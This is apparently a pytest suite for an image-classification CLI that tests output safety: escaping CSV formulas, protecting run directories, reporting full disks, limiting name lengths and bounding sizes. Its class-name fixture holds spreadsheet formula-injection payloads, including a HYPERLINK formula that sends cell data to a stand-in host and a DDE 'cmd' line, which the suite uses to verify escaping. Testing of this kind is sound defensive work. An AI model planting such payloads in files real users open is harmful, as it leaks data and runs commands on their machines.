"""Outputs strangers can't turn against a user (issue 15): CSV cells that a spreadsheet would
run as formulas, run directories overwritten through another name of their files, a full disk
reported as something else, figure names too long for the file system, an empty ``--out``,
evaluation sizes that ask for tens of GiB, error rows without a reason."""

from __future__ import annotations

import csv
import errno
import os
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest
import torch
from PIL import Image

import sknet
from sknet._files import atomic_save, check_output
from sknet.cli.main import main
from sknet.errors import OutputError
from sknet.weights import save_weights

PRE = {"input_size": 48, "mean": [0.5, 0.5, 0.5], "std": [0.25, 0.25, 0.25]}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Class names a shared weights file could carry into every user's spreadsheet.
HOSTILE_CLASSES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
]


def _image(path: Path, seed: int = 0, size: tuple[int, int] = (40, 30)) -> Path:
    rng = np.random.default_rng(seed)
    Image.fromarray(rng.integers(0, 256, (size[1], size[0], 3), dtype=np.uint8)).save(path)
    return path


@pytest.fixture(scope="module")
def weights(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A tiny 3-class SKNet whose class names are spreadsheet formulas."""
    root = tmp_path_factory.mktemp("hostile")
    torch.manual_seed(0)
    model = sknet.create_model("sknet_tiny", num_classes=3)
    return save_weights(model, root / "w.safetensors", classes=HOSTILE_CLASSES, preprocess=PRE)


def _run(capsys: pytest.CaptureFixture, *args: object) -> tuple[int, str, str]:
    rc = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return rc, out, err


def _one_line_error(capsys: pytest.CaptureFixture, *args: object) -> str:
    rc, _, err = _run(capsys, *args)
    lines = err.strip().splitlines()
    assert rc == 1 and len(lines) == 1 and ": error: " in lines[0], (rc, err)
    return lines[0]


def _make_run(root: Path, weights: Path) -> Path:
    """A run directory as `sknet train` leaves it (files only; the checkpoints are dummies)."""
    run = root / "run"
    (run / "checkpoints").mkdir(parents=True)
    (run / "config.toml").write_text('model = "sknet_tiny"\n')
    (run / "metrics.csv").write_text("epoch,step\n1,10\n")
    (run / "summary.json").write_text('{"top1_err": 1.0}\n')
    (run / "model.safetensors").write_bytes(weights.read_bytes())
    for name in ("last.pt", "best.pt"):
        (run / "checkpoints" / name).write_bytes(b"checkpoint")
    return run


# ------------------------------------------------------------------ 4. CSV formula injection


def test_csv_cell_escapes_formulas_and_leaves_numbers() -> None:
    from sknet._files import csv_cell

    for text in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    for text in ("cat", "", "1.5", "a=b", "'quoted"):
        assert csv_cell(text) == text
    assert csv_cell(-0.5) == -0.5 and csv_cell(-3) == -3 and csv_cell(None) is None


def test_predict_csv_never_starts_a_cell_with_a_formula(
    weights: Path, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    imgs = tmp_path / "imgs"
    imgs.mkdir()
    names = ["=cmd.png", "+x.png", "-y.png", "@z.png", "plain.png"]
    for i, name in enumerate(names):
        _image(imgs / name, seed=i)
    (imgs / "=broken.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00garbage" * 4)
    out = tmp_path / "p.csv"
    rc, _, _ = _run(capsys, "predict", weights, imgs, "--out", out, "--device", "cpu")
    assert rc == 1  # the broken image is reported; the others are predicted
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    cells = [c for row in rows for c in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA_START)]
    head, body = rows[0], rows[1:]
    records = [dict(zip(head, row)) for row in body]

    def unquote(cell: str) -> str:  # the documented escape: one quote before a formula
        return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_START) else cell

    assert sorted(Path(unquote(r["path"])).name for r in records) == sorted([*names, "=broken.png"])
    assert all(r["path"].startswith("'") for r in records if Path(r["path"]).name[1] in "=+-@")
    labels = {unquote(r[k]) for r in records for k in head if k.startswith("label_") and r[k]}
    assert labels == set(HOSTILE_CLASSES)  # intact apart from the quote
    scores = [float(r[k]) for r in records for k in head if k.startswith("score_") and r[k]]
    assert len(scores) == 3 * len(names) and all(0.0 <= s <= 1.0 for s in scores)


# ------------------------------------------------------------------ 5. run-directory protection


def test_a_run_is_protected_whatever_path_names_its_source(tmp_path: Path, weights: Path) -> None:
    from sknet._files import run_dir_of

    run = _make_run(tmp_path, weights)
    link = tmp_path / "alias.safetensors"
    link.symlink_to(run / "model.safetensors")
    for src in (
        run,
        run / "model.safetensors",
        run / "checkpoints" / "last.pt",
        run / "checkpoints" / "best.pt",
        link,
        Path(os.path.relpath(run / "model.safetensors")),
    ):
        assert run_dir_of(src) == run.resolve(), src
        for victim in ("summary.json", "metrics.csv", "config.toml", "checkpoints/best.pt"):
            with pytest.raises(OutputError, match="run directory|the file this command reads"):
                check_output(run / victim, sources=[src], force=True)
        # the same file under another spelling, and through a link
        with pytest.raises(OutputError, match="run directory"):
            check_output(run / "checkpoints" / ".." / "summary.json", sources=[src], force=True)
        out_link = tmp_path / "out.json"
        out_link.unlink(missing_ok=True)
        out_link.symlink_to(run / "summary.json")
        with pytest.raises(OutputError, match="run directory"):
            check_output(out_link, sources=[src], force=True)
        assert check_output(run / "new.json", sources=[src]) == run / "new.json"  # new files
    (tmp_path / "elsewhere.json").write_text("{}")
    assert check_output(
        tmp_path / "elsewhere.json", sources=[run / "model.safetensors"], force=True
    )
    loose = tmp_path / "downloads"
    loose.mkdir()
    (loose / "w.safetensors").write_bytes(weights.read_bytes())
    assert run_dir_of(loose / "w.safetensors") is None  # no run markers: no run


def test_cli_force_never_replaces_a_file_of_the_run_it_reads(
    tmp_path: Path, weights: Path, capsys: pytest.CaptureFixture
) -> None:
    run = _make_run(tmp_path, weights)
    img = _image(tmp_path / "img.png")
    before = (run / "summary.json").read_bytes()
    err = _one_line_error(
        capsys, "predict", run / "model.safetensors", img, "--out", run / "summary.json", "--force"
    )
    assert "run directory" in err
    for ckpt in ("last.pt", "best.pt"):
        err = _one_line_error(
            capsys,
            "eval",
            run / "checkpoints" / ckpt,
            "--out",
            run / "summary.json",
            "--force",
            "--device",
            "cpu",
        )
        assert "run directory" in err, err
    assert (run / "summary.json").read_bytes() == before


# ------------------------------------------------------------------ 10. a full disk says so


def test_a_full_disk_is_reported_as_such(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "checkpoints" / "last.pt"
    target.parent.mkdir()
    target.write_bytes(b"previous checkpoint")

    def torch_write(tmp: str) -> None:  # what torch.save says when the disk fills up
        Path(tmp).write_bytes(b"partial")
        raise RuntimeError("[enforce fail at inline_container.cc:672] . unexpected pos 5568")

    real_statvfs = os.statvfs
    full = SimpleNamespace(f_bavail=0, f_frsize=4096, f_bfree=0, f_blocks=1000)
    monkeypatch.setattr(os, "statvfs", lambda p: full)
    with pytest.raises(OSError) as exc:
        atomic_save(torch_write, target)
    assert exc.value.errno == errno.ENOSPC and exc.value.filename == str(target)
    assert "No space left on device" in str(exc.value) and str(target) in str(exc.value)
    assert target.read_bytes() == b"previous checkpoint"
    assert sorted(p.name for p in target.parent.iterdir()) == ["last.pt"], "temp file removed"
    from sknet.cli.main import _one_line, is_user_error

    assert is_user_error(exc.value) and "No space left on device" in _one_line(exc.value)

    # with room to spare the writer's own reason is kept (a full disk is not invented)
    monkeypatch.setattr(os, "statvfs", real_statvfs)
    with pytest.raises(OSError, match="unexpected pos") as exc:
        atomic_save(torch_write, target)
    assert exc.value.errno != errno.ENOSPC
    assert target.read_bytes() == b"previous checkpoint"


def test_a_full_disk_while_logging_metrics_names_the_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from sknet.cli.main import is_user_error
    from sknet.train.rundir import CSV_FIELDS, append_csv, prepare_csv

    prepare_csv(tmp_path, 0)

    def no_space(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")  # no file name: was a bug report

    monkeypatch.setattr(os, "fsync", no_space)
    with pytest.raises(OSError, match="No space left on device") as exc:
        append_csv(tmp_path, dict.fromkeys(CSV_FIELDS, 1.0))
    assert exc.value.filename == str(tmp_path / "metrics.csv") and is_user_error(exc.value)


# ------------------------------------------------------------------ 11. names that fit


def test_deep_folders_get_short_distinct_figure_names() -> None:
    from sknet.predict import explain_names

    deep = "/data/" + "/".join(f"level{i:02d}_" + "x" * 50 for i in range(8))
    paths = [f"{deep}/a.jpg", f"{deep}/b.jpg", "/data/top.jpg", f"{deep}/a.png"]
    names = explain_names(paths)
    assert all(len(n.encode()) <= 255 and n.endswith(".png") for n in names), names
    assert len({n.lower() for n in names}) == len(names)
    assert names == explain_names(paths), "deterministic"
    assert names[2] == "top.png" and names[0].endswith("__a_jpg.png")
    assert all(len(n) <= 100 for n in explain_names(paths, max_bytes=100))


def test_predict_explain_in_deep_folders_just_works(
    weights: Path, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    deep = tmp_path / "in"
    for i in range(6):
        deep = deep / (f"d{i}_" + "y" * 55)
    deep.mkdir(parents=True)
    _image(deep / "cat.png")
    _image(tmp_path / "in" / "dog.png", seed=1)
    figs, out = tmp_path / "figs", tmp_path / "p.json"
    rc, _, err = _run(
        capsys, "predict", weights, tmp_path / "in", "--explain", figs, "--out", out,
        "--device", "cpu",
    )  # fmt: skip
    assert rc == 0, err
    written = sorted(p.name for p in figs.iterdir())
    assert len(written) == 2 and "dog.png" in written and out.is_file()
    assert all(len(n.encode()) <= 255 for n in written)


def test_output_names_too_long_fail_before_any_work(
    weights: Path, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    img = _image(tmp_path / "img.png")
    err = _one_line_error(capsys, "predict", weights, img, "--out", tmp_path / ("p" * 300 + ".csv"))
    assert "file name" in err and "is 304 bytes" in err
    folder = tmp_path.joinpath(*(["z" * 200] * 25))  # > PATH_MAX
    err = _one_line_error(capsys, "predict", weights, img, "--explain", folder)
    assert "the path is" in err and "longer than" in err
    assert not any(tmp_path.glob("*.csv")) and not (tmp_path / ("z" * 200)).exists()


# ------------------------------------------------------------------ 13. an empty --out


@pytest.mark.parametrize(
    "argv",
    [
        ["train", "--out", ""],
        ["train", "--out", "  "],
        ["predict", "{w}", "{img}", "--out", ""],
        ["predict", "{w}", "{img}", "--explain", ""],
        ["eval", "{w}", "--out", ""],
        ["export", "{w}", "--format", "onnx", "--out", ""],
        ["bench", "--models", "sknet_tiny", "--rounds", "1", "--memory", "none", "--out", ""],
        ["analyze", "{w}", "--out", ""],
        ["ablate", "table6", "--out", ""],
        ["convert", "{w}", ""],
    ],
    ids=lambda a: "-".join(x.strip() or "EMPTY" for x in a if not x.startswith("{")),
)
def test_an_empty_out_is_an_error_not_a_default_place(
    argv: list[str],
    weights: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture,
) -> None:
    monkeypatch.chdir(tmp_path)  # were it taken as "here" or ./runs, it would land in tmp_path
    img = _image(tmp_path / "img.png")
    args = [a.format(w=weights, img=img) for a in argv]
    err = _one_line_error(capsys, *args)
    assert "is empty" in err, err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["img.png"], "nothing written"


# ------------------------------------------------------------------ 9. evaluation sizes


def test_eval_sizes_are_bounded_before_any_work(
    weights: Path, capsys: pytest.CaptureFixture
) -> None:
    base = ["eval", weights, "--data", "synthetic", "--device", "cpu", "--val-samples", "4"]
    err = _one_line_error(capsys, *base, "--sizes", "100000")
    assert "--sizes" in err and "4096" in err
    assert "--sizes" in _one_line_error(capsys, *base, "--sizes", "48", "0")
    err = _one_line_error(capsys, *base, "--sizes", "4")
    assert "smaller than the model's minimum input" in err


def test_evaluate_source_bounds_sizes_too(weights: Path) -> None:
    from sknet.errors import ConfigError
    from sknet.train import evaluate_source

    with pytest.raises(ConfigError, match="4096"):
        evaluate_source(weights, data="synthetic", sizes=[100000], device="cpu")


# ------------------------------------------------------------------ predict: a reason, always


def test_an_error_row_always_says_why() -> None:
    from sknet.predict import _read

    def broken(img: Image.Image) -> torch.Tensor:
        raise RuntimeError()  # no message

    _, x, reason = _read(Image.new("RGB", (8, 8)), 0, broken)
    assert x is None and reason == "cannot preprocess the image: RuntimeError"
